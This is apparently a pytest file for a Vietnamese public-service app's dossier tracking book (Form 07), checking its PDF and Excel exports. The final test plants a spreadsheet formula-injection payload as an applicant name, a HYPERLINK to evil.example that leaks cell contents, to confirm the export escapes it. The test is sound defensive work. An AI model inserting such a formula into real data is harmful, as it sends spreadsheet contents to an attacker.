"""Form 07, the tracking book of an agency for a period, as PDF and as Excel."""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook

from motcua.catalog.models import Field
from motcua.documents import tracking
from motcua.documents.excel import HEADER_ROW, tracking_book_xlsx
from motcua.documents.forms import render_tracking_book_pdf
from motcua.documents.tests.helpers import T0, assert_contains, pdf_text, vn
from motcua.dossiers import services as ds
from motcua.lib.errors import InvalidInput


def _book(world: Any) -> dict[str, Any]:
    """Three dossiers at the provincial centre: returned, still open, and one in July."""
    returned = world.register(at=T0)
    ds.dossier_start_processing(dossier=world.refresh(returned), actor=world.reception, at=T0 + timedelta(minutes=5))
    ds.dossier_finish(dossier=world.refresh(returned), actor=world.leader, at=vn(2026, 6, 5, 15))
    ds.dossier_return_result(
        dossier=world.refresh(returned),
        actor=world.reception,
        delivery="in_person",
        collected_by="Nguyễn Thị Hoa",
        at=vn(2026, 6, 8, 8, 30),
    )
    # Received late in the evening of 30/06 (23:30 in Hanoi, 16:30 UTC): still in June.
    open_one = world.register(at=vn(2026, 6, 30, 23, 30), outside_hours_reason="Tiếp nhận ngoài giờ")
    july = world.register(at=vn(2026, 7, 1, 8, 0))
    return {"returned": returned, "open": open_one, "july": july}


def test_the_book_pdf_lists_the_dossiers_received_in_the_period(world: Any) -> None:
    made = _book(world)

    text = pdf_text(render_tracking_book_pdf(world.centre, date(2026, 6, 1), date(2026, 6, 30)))

    assert_contains(
        text,
        "Mẫu số 07",
        "SỔ THEO DÕI HỒ SƠ",
        "TRUNG TÂM PHỤC VỤ HÀNH CHÍNH CÔNG TỈNH",
        "Từ ngày 01/06/2026 đến ngày 30/06/2026",
        made["returned"].code,
        made["open"].code,
        "Nguyễn Văn An",
        "Sở Tư pháp",
        "09:00 01/06/2026",
        "09:00 15/06/2026",
        "08:30 08/06/2026",
        "Trực tiếp",
        "Nguyễn Thị Hoa",
        "23:30 30/06/2026",
    )
    assert made["july"].code not in text


def test_the_book_is_kept_by_the_one_stop_unit_that_received_the_dossiers(world: Any) -> None:
    made = _book(world)

    settling = pdf_text(render_tracking_book_pdf(world.justice, date(2026, 7, 1), date(2026, 7, 31)))
    centre = tracking.book_rows(world.centre, date(2026, 7, 1), date(2026, 7, 31))

    assert made["july"].code not in settling
    assert [row.dossier_code for row in centre] == [made["july"].code]


def test_entry_numbers_never_repeat_within_a_book_and_a_filter_keeps_them(world: Any) -> None:
    made = _book(world)
    # Dossier codes restart every day (…-0001); the book's entry numbers do not.
    second_of_july = world.register(at=vn(2026, 7, 2, 8, 0))
    other_field = Field.objects.create(code="XD", name="Xây dựng", name_en="Construction")

    year = tracking.book_rows(world.centre, *tracking.year_period(2026))
    july = tracking.book_rows(world.centre, date(2026, 7, 1), date(2026, 7, 31), field_code="LLTP")
    none = tracking.book_rows(world.centre, date(2026, 7, 1), date(2026, 7, 31), field_code=other_field.code)

    codes = [made["returned"].code, made["open"].code, made["july"].code, second_of_july.code]
    assert [(row.no, row.dossier_code) for row in year] == list(enumerate(codes, 1))
    assert [row.no for row in july] == [3, 4]
    assert none == []
    assert tracking.entry_numbers(world.centre, 2027) == {}
    text = pdf_text(render_tracking_book_pdf(world.centre, date(2026, 7, 1), date(2026, 7, 31), field_code="LLTP"))
    assert_contains(text, "Quyển số: 2026", "Lĩnh vực: Lý lịch tư pháp")


def test_an_empty_period_prints_an_empty_book(world: Any) -> None:
    text = pdf_text(render_tracking_book_pdf(world.tax, date(2026, 6, 1), date(2026, 6, 30)))

    assert_contains(text, "SỔ THEO DÕI HỒ SƠ", "Không có hồ sơ tiếp nhận trong kỳ")


def test_the_excel_book_has_a_bold_frozen_header_and_one_row_per_dossier(world: Any) -> None:
    made = _book(world)

    data = tracking_book_xlsx(world.centre, date(2026, 6, 1), date(2026, 6, 30))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None

    header = [cell.value for cell in sheet[HEADER_ROW]]
    assert header[:3] == ["STT", "Mã hồ sơ", "Tên thủ tục hành chính"]
    assert len(header) == 11
    assert all(cell.font.bold for cell in sheet[HEADER_ROW])
    assert sheet.freeze_panes == f"C{HEADER_ROW + 1}"
    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["A"].width
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=HEADER_ROW + 1)]
    assert [row[1] for row in rows] == [made["returned"].code, made["open"].code]
    first = rows[0]
    assert first[0] == 1
    assert first[3] == "Nguyễn Văn An"
    assert first[5] == "Sở Tư pháp"
    # Wall-clock time of Asia/Ho_Chi_Minh, shown dd/mm/yyyy.
    assert first[6] == datetime(2026, 6, 1, 9, 0)
    assert first[7] == datetime(2026, 6, 15, 9, 0)
    assert first[8] == datetime(2026, 6, 8, 8, 30)
    assert first[9] == "Trực tiếp"
    assert first[10] == "Nguyễn Thị Hoa"
    assert rows[1][6] == datetime(2026, 6, 30, 23, 30)
    assert sheet.cell(row=HEADER_ROW + 1, column=7).number_format.startswith("dd/mm/yyyy")


def test_the_excel_book_notes_a_new_date_set_by_an_apology(world: Any) -> None:
    dossier = world.register(at=T0)
    ds.dossier_start_processing(dossier=world.refresh(dossier), actor=world.reception, at=T0 + timedelta(minutes=5))
    ds.dossier_apologise(
        dossier=world.refresh(dossier),
        actor=world.leader,
        reason="Chờ xác minh",
        new_due_at=vn(2026, 6, 19, 16, 0),
        at=vn(2026, 6, 10, 9, 0),
    )

    sheet = load_workbook(io.BytesIO(tracking_book_xlsx(world.centre, date(2026, 6, 1), date(2026, 6, 1)))).active
    assert sheet is not None

    cell = sheet.cell(row=HEADER_ROW + 1, column=8)
    assert cell.value == datetime(2026, 6, 15, 9, 0)
    assert cell.comment is not None
    assert "19/06/2026" in cell.comment.text


@pytest.mark.parametrize(
    ("start", "end", "code"),
    [
        (date(2026, 6, 30), date(2026, 6, 1), "invalid_period"),
        (date(2025, 1, 1), date(2026, 6, 30), "period_too_long"),
    ],
)
def test_it_refuses_a_period_that_makes_no_book(world: Any, start: date, end: date, code: str) -> None:
    with pytest.raises(InvalidInput) as pdf_error:
        render_tracking_book_pdf(world.centre, start, end)
    with pytest.raises(InvalidInput) as excel_error:
        tracking_book_xlsx(world.centre, start, end)

    assert pdf_error.value.code == excel_error.value.code == code


def test_it_refuses_a_book_without_an_agency(world: Any) -> None:
    with pytest.raises(InvalidInput) as error:
        tracking_book_xlsx(None, date(2026, 6, 1), date(2026, 6, 30))  # type: ignore[arg-type]

    assert error.value.code == "agency_required"


def test_the_excel_book_escapes_an_applicant_name_a_spreadsheet_would_run(world: Any) -> None:
    person = world.citizen_person
    person.full_name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    person.save(update_fields=["full_name"])
    world.register(at=T0)
    sheet = load_workbook(io.BytesIO(tracking_book_xlsx(world.centre, date(2026, 6, 1), date(2026, 6, 30)))).active
    assert sheet is not None
    cell = sheet.cell(row=HEADER_ROW + 1, column=4)
    assert cell.data_type == "s"
    assert cell.value == "'" + person.full_name
